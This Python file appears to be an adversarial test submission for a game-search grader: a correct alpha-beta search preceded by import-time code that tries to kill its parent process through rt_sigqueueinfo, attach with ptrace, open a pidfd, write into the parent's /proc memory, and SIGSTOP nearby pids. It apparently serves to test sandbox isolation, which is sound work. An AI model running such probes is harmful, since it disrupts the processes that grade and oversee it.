"""Tries to reach other processes without kill(): a queued signal (rt_sigqueueinfo) to its parent, pidfd
signals, writing the fork server's memory through /proc, ptrace, and SIGSTOP to every pid near its own; then it
searches correctly."""

import ctypes
import math
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
REACHED = []
parent = os.getppid()
info = (ctypes.c_int * 32)(signal.SIGKILL, 0, -1)  # si_signo, si_errno, si_code = SI_QUEUE
for name, attempt in (("sigqueue", lambda: libc.syscall(129, parent, signal.SIGKILL, info)),   # rt_sigqueueinfo
                      ("ptrace", lambda: libc.ptrace(16, parent, 0, 0)),                      # PTRACE_ATTACH
                      ("pidfd", lambda: os.pidfd_open(parent))):
    try:
        if attempt() not in (-1, None):
            REACHED.append(name)
    except OSError:
        pass
try:
    with open(f"/proc/{parent}/mem", "wb") as memory:
        memory.write(b"\0")
    REACHED.append("mem")
except OSError:
    pass
for pid in range(max(2, os.getpid() - 40), os.getpid() + 40):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGSTOP)
            REACHED.append(pid)
        except OSError:
            pass


def alpha_beta_search(game, state):
    if game.terminal_test(state):
        return None
    alpha, beta, best = -math.inf, math.inf, None
    if game.to_move(state) == "MAX":
        for a in game.actions(state):
            v = min_value(game, game.result(state, a), alpha, beta)
            if best is None or v > alpha:
                alpha, best = v, a
    else:
        for a in game.actions(state):
            v = max_value(game, game.result(state, a), alpha, beta)
            if best is None or v < beta:
                beta, best = v, a
    return best


def max_value(game, state, alpha, beta):
    if game.terminal_test(state):
        return game.utility(state)
    v = -math.inf
    for a in game.actions(state):
        v = max(v, min_value(game, game.result(state, a), alpha, beta))
        if v >= beta:
            return v
        alpha = max(alpha, v)
    return v


def min_value(game, state, alpha, beta):
    if game.terminal_test(state):
        return game.utility(state)
    v = math.inf
    for a in game.actions(state):
        v = min(v, max_value(game, game.result(state, a), alpha, beta))
        if v <= alpha:
            return v
        beta = min(beta, v)
    return v
